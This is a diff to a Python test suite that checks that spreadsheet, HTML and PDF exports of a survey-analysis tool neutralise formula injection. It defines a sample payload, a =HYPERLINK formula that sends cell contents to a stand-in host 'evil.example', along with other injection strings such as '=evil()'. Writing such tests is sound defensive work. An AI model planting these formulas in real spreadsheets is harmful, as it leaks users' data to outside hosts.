@@ -17,22 +17,20 @@ from pypdf import PdfReader
 
 from odi.analysis.scoring import score
 from odi.analysis.unmet_needs import UnmetNeeds, unmet_needs
+from odi.cli.main import main
 from odi.exports import (
     card_html,
     card_markdown,
     card_pdf,
     landscape_html,
     persona_deck,
-    scores_csv,
-    scores_xlsx,
-    unmet_needs_csv,
     unmet_needs_json,
     unmet_needs_markdown,
-    unmet_needs_xlsx,
 )
+from odi.exports.output import csv_bytes, xlsx_bytes
+from odi.exports.registry import EXPORTS
 from odi.exports.safety import FORMULA_PREFIXES, md_text, neutralise_cell
 from odi.personas import Persona
-from odi.survey import Survey
 
 DAY = date(2026, 5, 1)
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
@@ -82,67 +80,52 @@ def test_hostile_text_reaches_the_exports(hostile: UnmetNeeds) -> None:
     assert hostile.hidden["outcome_id"].tolist() == ["O4"]
 
 
-def test_csv_cells_are_neutralised(hostile: UnmetNeeds) -> None:
-    text = unmet_needs_csv(hostile, exported=DAY).decode("utf-8-sig")
-    rows = list(csv.DictReader(io.StringIO(text)))
-    assert rows
-    for row in rows:
-        for key, value in row.items():
-            if key in (
-                "importance",
-                "satisfaction",
-                "opportunity",
-                "gap",
-                "opportunity_low",
-                "opportunity_high",
-                "importance_low",
-                "importance_high",
-                "satisfaction_low",
-                "satisfaction_high",
-                "threshold",
-            ):
-                float(value)  # numbers stay numbers
-                continue
-            assert not _starts_dangerous(value), (key, value)
-    outcomes = {r["outcome_id"]: r["outcome"] for r in rows}
-    assert outcomes["O1"] == "'" + HYPERLINK
-    assert outcomes["O5"] == "'-2+3"
-    assert rows[0]["persona"] == "'" + HYPERLINK
-    assert rows[0]["study"] == '\'=cmd("study")'
-    gaps = {r["outcome_id"]: float(r["gap"]) for r in rows}
-    assert min(gaps.values()) < 0  # a negative number, left as a number
+SPREADSHEETS = [k for k, f in EXPORTS.items() if f.extension in (".csv", ".xlsx")]
+_NUMBER = re.compile(r"-?\d+(\.\d+)?(e-?\d+)?")
 
 
-def test_xlsx_has_no_formulas(hostile: UnmetNeeds, survey: Survey) -> None:
-    books = [
-        unmet_needs_xlsx(hostile, exported=DAY),
-        scores_xlsx(score(survey, bootstrap=0), study=HYPERLINK, scale=survey.scale, exported=DAY),
-    ]
-    for data in books:
-        wb = load_workbook(io.BytesIO(data))
-        strings = 0
-        for ws in wb.worksheets:
-            for row in ws.iter_rows():
-                for cell in row:
-                    assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
-                    if isinstance(cell.value, str):
-                        strings += 1
-                        assert not _starts_dangerous(cell.value), (ws.title, cell.value)
-        assert strings > 10
-    sheet = pd.read_excel(io.BytesIO(books[0]), sheet_name=1)
-    assert sheet.set_index("outcome_id").loc["O1", "outcome"] == "'" + HYPERLINK
-    assert (sheet["gap"] < 0).any()  # numbers stay numeric cells
+def _sheet_cells(data: bytes, ext: str) -> list[object]:
+    """Every cell of a CSV (comment lines included) or XLSX file; XLSX formulas fail."""
+    if ext.endswith("csv"):
+        return [v for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for v in row]
+    cells = []
+    for ws in load_workbook(io.BytesIO(data)).worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+                cells.append(cell.value)
+    return cells
 
 
-def test_scores_csv_is_neutralised(build) -> None:
-    survey = build(statements=HOSTILE_STATEMENTS)
-    text = scores_csv(
-        score(survey, bootstrap=0), study="=evil()", scale=survey.scale, exported=DAY
-    ).decode("utf-8-sig")
-    for row in csv.reader(io.StringIO(text)):
-        for value in row:
-            if not re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", value):
-                assert not _starts_dangerous(value), value
+def _check(cells: list[object], *, csv_text: bool) -> None:
+    texts = [c for c in cells if isinstance(c, str) and not (csv_text and _NUMBER.fullmatch(c))]
+    numbers = [c for c in cells if not isinstance(c, str) or _NUMBER.fullmatch(c)]
+    assert not [t for t in texts if _starts_dangerous(t)]
+    assert any(t == "'" + HYPERLINK or t.endswith(HYPERLINK) for t in texts)  # it got there
+    assert "'-2+3" in texts  # a statement that looks like a negative sum is text
+    assert [n for n in numbers if n is not None]  # numbers stay numbers
+
+
+@pytest.mark.parametrize("key", SPREADSHEETS)
+def test_every_spreadsheet_export_is_neutralised(key: str, hostile: UnmetNeeds, build) -> None:
+    fmt = EXPORTS[key]
+    if fmt.takes == "needs":
+        data = fmt.write([hostile], exported=DAY)
+    else:
+        survey = build(statements=HOSTILE_STATEMENTS)
+        result = score(survey, bootstrap=0)
+        data = fmt.write(result, study=HYPERLINK, scale=survey.scale, exported=DAY)
+    _check(_sheet_cells(data, fmt.extension), csv_text=fmt.extension == ".csv")
+
+
+@pytest.mark.parametrize("ext", ["csv", "xlsx"])
+def test_score_output_is_neutralised(ext: str, build, to_long_csv, tmp_path) -> None:
+    """``python -m odi score -o`` goes through the same writer."""
+    source = tmp_path / "hostile.csv"
+    source.write_bytes(to_long_csv(build(statements=HOSTILE_STATEMENTS)))
+    out = tmp_path / f"scores.{ext}"
+    assert main(["score", str(source), "--bootstrap", "0", "-o", str(out)]) == 0
+    _check(_sheet_cells(out.read_bytes(), ext), csv_text=ext == "csv")
 
 
 def test_html_escapes_all_user_text(hostile: UnmetNeeds) -> None:
@@ -237,3 +220,15 @@ def test_pdf_and_deck_survive_hostile_text(hostile: UnmetNeeds) -> None:
     assert "Müller – 🚀" in text
     prs = Presentation(io.BytesIO(persona_deck(hostile, exported=DAY)))
     assert len(prs.slides) == 2
+
+
+def test_the_writer_keeps_negative_numbers_numeric() -> None:
+    frame = pd.DataFrame({"outcome": ["-2+3", "ok"], "gap": [-1.5, 2.0]})
+    wb = load_workbook(io.BytesIO(xlsx_bytes(frame)))
+    values = [[c.value for c in row] for row in wb.active.iter_rows()]
+    assert values == [["outcome", "gap"], ["'-2+3", -1.5], ["ok", 2.0]]
+    assert csv_bytes(frame, bom=False).decode().splitlines() == [
+        "outcome,gap",
+        "'-2+3,-1.5",
+        "ok,2.0",
+    ]
